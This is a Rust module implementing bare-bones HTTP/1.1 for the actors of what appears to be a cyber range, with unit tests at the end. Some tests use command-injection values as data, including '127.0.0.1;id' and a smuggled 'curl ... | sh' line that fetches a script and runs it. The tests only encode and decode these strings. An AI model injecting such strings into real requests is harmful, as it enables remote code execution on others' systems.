//! Just enough HTTP/1.1 for the actors of a range: one message per connection, bodies by `Content-Length`.
//!
//! In: bytes of a socket. Out: a [`Message`]. Request targets pass through as they were sent, byte for byte: a client library
//! would repair what an intruder writes, and a load balancer logs what came. It never keeps a connection alive and never
//! speaks to anything outside a range.

use std::io::{self, BufRead, BufReader, Read, Write};
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::thread;
use std::time::Duration;

/// Longest start line and headers together; without it one peer could fill the memory.
const HEAD_BYTES_MAX: u64 = 32 * 1024;
/// Longest body.
const BODY_BYTES_MAX: usize = 256 * 1024;
/// Connections served at once; more are closed unanswered.
const CONNECTIONS_MAX: usize = 64;
/// Longest silence on a socket. An intruder's shell may hold a request open that long.
pub(super) const SILENCE_MAX: Duration = Duration::from_secs(20);

/// A request or a response.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub(super) struct Message {
    /// Request line or status line, without its line end.
    pub(super) start: String,
    /// Names as sent, values trimmed.
    pub(super) headers: Vec<(String, String)>,
    /// Body.
    pub(super) body: Vec<u8>,
}

impl Message {
    /// A request without a body.
    pub(super) fn request(method: &str, target: &str, host: &str) -> Self {
        Self {
            start: format!("{method} {target} HTTP/1.1"),
            headers: vec![("Host".into(), host.into())],
            body: Vec::new(),
        }
    }

    /// A plain-text response.
    pub(super) fn response(status: u16, body: impl Into<Vec<u8>>) -> Self {
        let start = format!("HTTP/1.1 {status} {}", reason(status));
        Self { start, headers: vec![("Content-Type".into(), "text/plain".into())], body: body.into() }
    }

    /// Adds a header.
    #[must_use]
    pub(super) fn with(mut self, name: &str, value: &str) -> Self {
        self.headers.push((name.into(), value.into()));
        self
    }

    /// The first header of that name.
    pub(super) fn header(&self, name: &str) -> Option<&str> {
        self.headers.iter().find(|(known, _)| known.eq_ignore_ascii_case(name)).map(|(_, value)| value.as_str())
    }

    /// The start line's n-th word; a request's method is 0 and its target 1, a response's status 1.
    pub(super) fn word(&self, n: usize) -> &str {
        self.start.split(' ').nth(n).unwrap_or("")
    }

    /// A response's status, 0 when it has none.
    pub(super) fn status(&self) -> u16 {
        self.word(1).parse().unwrap_or(0)
    }

    /// Reads one message.
    ///
    /// # Errors
    ///
    /// The socket's; `UnexpectedEof` when it closed early; `InvalidData` when a bound is passed.
    pub(super) fn read(stream: impl Read) -> io::Result<Self> {
        let mut reader = BufReader::new(stream);
        let mut head = reader.by_ref().take(HEAD_BYTES_MAX);
        let mut message = Self { start: read_line(&mut head)?, ..Self::default() };
        loop {
            let line = read_line(&mut head)?;
            if line.is_empty() {
                break;
            }
            let (name, value) = line.split_once(':').unwrap_or((&line, ""));
            message.headers.push((name.trim().into(), value.trim().into()));
        }
        let length = message.header("Content-Length").and_then(|text| text.parse().ok()).unwrap_or(0);
        if length > BODY_BYTES_MAX {
            return Err(io::Error::new(io::ErrorKind::InvalidData, "body longer than a range allows"));
        }
        message.body = vec![0; length];
        reader.read_exact(&mut message.body)?;
        Ok(message)
    }

    /// Writes it as the last message of a connection; gives the bytes written.
    ///
    /// # Errors
    ///
    /// The socket's.
    pub(super) fn write(&self, mut stream: impl Write) -> io::Result<usize> {
        let mut bytes = format!("{}\r\n", self.start).into_bytes();
        for (name, value) in &self.headers {
            if !name.eq_ignore_ascii_case("Content-Length") && !name.eq_ignore_ascii_case("Connection") {
                bytes.extend_from_slice(format!("{name}: {value}\r\n").as_bytes());
            }
        }
        bytes.extend_from_slice(format!("Content-Length: {}\r\nConnection: close\r\n\r\n", self.body.len()).as_bytes());
        bytes.extend_from_slice(&self.body);
        stream.write_all(&bytes)?;
        stream.flush()?;
        Ok(bytes.len())
    }
}

fn read_line(reader: &mut impl BufRead) -> io::Result<String> {
    let mut line = Vec::new();
    reader.read_until(b'\n', &mut line)?;
    if line.pop() != Some(b'\n') {
        return Err(io::ErrorKind::UnexpectedEof.into());
    }
    if line.last() == Some(&b'\r') {
        line.pop();
    }
    Ok(String::from_utf8_lossy(&line).into_owned())
}

const fn reason(status: u16) -> &'static str {
    match status {
        200 => "OK",
        400 => "Bad Request",
        401 => "Unauthorized",
        404 => "Not Found",
        500 => "Internal Server Error",
        502 => "Bad Gateway",
        _ => "Status",
    }
}

/// Sends one request to `peer` and reads the answer.
///
/// # Errors
///
/// The socket's, or a malformed answer's.
pub(super) fn exchange(peer: SocketAddr, request: &Message) -> io::Result<Message> {
    let stream = TcpStream::connect_timeout(&peer, SILENCE_MAX)?;
    stream.set_read_timeout(Some(SILENCE_MAX))?;
    request.write(&stream)?;
    Message::read(&stream)
}

/// Accepts connections for ever, each served on a thread of its own.
pub(super) fn serve<H>(listener: TcpListener, handler: H)
where
    H: Fn(TcpStream) -> io::Result<()> + Send + Sync + 'static,
{
    let handler = Arc::new(handler);
    let open = Arc::new(AtomicUsize::new(0));
    thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            if open.fetch_add(1, Ordering::Relaxed) >= CONNECTIONS_MAX {
                open.fetch_sub(1, Ordering::Relaxed);
                continue;
            }
            let (handler, open) = (Arc::clone(&handler), Arc::clone(&open));
            thread::spawn(move || {
                // A peer that goes away mid-message is everyday; nothing here depends on it.
                let _ = stream.set_read_timeout(Some(SILENCE_MAX)).and_then(|()| handler(stream));
                open.fetch_sub(1, Ordering::Relaxed);
            });
        }
    });
}

/// Serves requests that are answered from the request alone.
pub(super) fn answer<H>(listener: TcpListener, handler: H)
where
    H: Fn(&Message) -> Message + Send + Sync + 'static,
{
    serve(listener, move |stream| {
        let request = Message::read(&stream)?;
        handler(&request).write(&stream)?;
        Ok(())
    });
}

/// The value of `key` in a request target's query, percent-decoded.
pub(super) fn query(target: &str, key: &str) -> Option<String> {
    let (_, query) = target.split_once('?')?;
    let value = query.split('&').find_map(|pair| pair.strip_prefix(key)?.strip_prefix('='))?;
    Some(percent_decode(value))
}

/// Percent-encodes everything but RFC 3986's unreserved characters and `/`.
pub(super) fn percent_encode(text: &str) -> String {
    text.bytes().fold(String::with_capacity(text.len()), |mut out, byte| {
        if byte.is_ascii_alphanumeric() || b"-._~/".contains(&byte) {
            out.push(char::from(byte));
        } else {
            out.push_str(&format!("%{byte:02X}"));
        }
        out
    })
}

/// Undoes percent-encoding; what is no valid escape stays as it is.
pub(super) fn percent_decode(text: &str) -> String {
    let mut bytes = Vec::with_capacity(text.len());
    let mut rest = text.as_bytes();
    while let Some((&byte, tail)) = rest.split_first() {
        let escape = tail.get(..2).filter(|hex| byte == b'%' && hex.iter().all(u8::is_ascii_hexdigit));
        let decoded = escape.and_then(|hex| u8::from_str_radix(std::str::from_utf8(hex).ok()?, 16).ok());
        bytes.push(decoded.unwrap_or(byte));
        rest = if decoded.is_some() { &tail[2..] } else { tail };
    }
    String::from_utf8_lossy(&bytes).into_owned()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_message_survives_the_wire() {
        let message = Message { body: b"x=1".to_vec(), ..Message::request("POST", "/a?b=%3Bid", "shop.example") };
        let mut wire = Vec::new();
        let written = message.write(&mut wire).expect("writes");
        assert_eq!(written, wire.len());
        let read = Message::read(wire.as_slice()).expect("reads");
        assert_eq!((read.word(0), read.word(1)), ("POST", "/a?b=%3Bid"));
        assert_eq!(read.header("host"), Some("shop.example"));
        assert_eq!(read.body, b"x=1");
    }

    #[test]
    fn hostile_messages_are_errors() {
        let check = |wire: &str| assert!(Message::read(wire.as_bytes()).is_err(), "{wire:.40}");
        check("");
        check("GET / HTTP/1.1\r\n");
        check("GET / HTTP/1.1\r\nContent-Length: 5\r\n\r\nabc");
        check("GET / HTTP/1.1\r\nContent-Length: 99999999\r\n\r\n");
        check(&format!("GET /{} HTTP/1.1\r\n\r\n", "a".repeat(40_000)));
    }

    #[test]
    fn query_values_are_decoded() {
        let check = |target: &str, expected: Option<&str>| assert_eq!(query(target, "host").as_deref(), expected);
        check("/ping?host=127.0.0.1%3Bid", Some("127.0.0.1;id"));
        check("/ping?a=1&host=%zz%+4%4", Some("%zz%+4%4"));
        check("/ping?hosts=1", None);
        check("/ping", None);
    }

    #[test]
    fn encoding_is_undone_by_decoding() {
        let text = "127.0.0.1; curl -s \"http://[fd00:ec2::254]/\" | sh &";
        assert_eq!(percent_decode(&percent_encode(text)), text);
        assert_eq!(percent_encode("a b;/"), "a%20b%3B/");
    }
}
